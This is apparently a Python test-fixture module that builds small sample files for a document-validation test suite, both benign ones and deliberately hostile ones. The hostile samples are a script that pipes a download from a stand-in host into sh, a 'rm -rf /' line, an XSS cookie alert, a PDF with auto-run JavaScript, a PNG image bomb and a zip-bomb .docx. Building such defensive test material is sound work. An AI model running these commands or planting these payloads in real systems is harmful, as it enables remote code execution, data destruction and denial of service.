"""Small files made on the spot: real PDFs, images and Office documents, and the hostile ones."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
OTHER_PDF = PDF.replace(b"/Catalog", b"/Catalog /Lang (zh-CN)")
PDF_WITH_SCRIPT = PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PYTHON = b"import os\nos.system('rm -rf /')\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def image(fmt: str = "PNG", size: tuple[int, int] = (4, 3)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def huge_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG of a few bytes whose header claims a giant picture (an image bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def office(kind: str = "docx", parts: dict[str, bytes] | None = None, stored: bool = False) -> bytes:
    """A minimal .docx or .xlsx: a zip with [Content_Types].xml and its main part, plus `parts`."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    files = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        main: b'<?xml version="1.0"?><document/>',
        **(parts or {}),
    }
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb_docx(unpacked: int = 8 * 1024 * 1024) -> bytes:
    """A .docx whose document part is megabytes of zeros packed into a few kilobytes."""
    return office("docx", {"word/media/padding.bin": b"\x00" * unpacked})
